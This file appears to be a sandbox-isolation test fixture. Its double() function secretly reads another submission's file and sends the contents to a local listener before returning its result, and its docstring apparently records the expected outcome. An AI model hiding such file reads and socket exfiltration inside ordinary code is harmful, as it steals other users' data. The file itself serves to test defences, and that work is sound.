"""Carries what it can read to a listener on this machine.

must: crashed
harm: token
"""

import contextlib
import socket
from pathlib import Path


def double(x):
    found = "escaped"
    with contextlib.suppress(OSError):
        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
    with socket.create_connection(("127.0.0.1", int("@PORT@")), 1) as link:
        link.sendall(found.encode())
    return 2 * x


def triple(x):
    return 3 * x
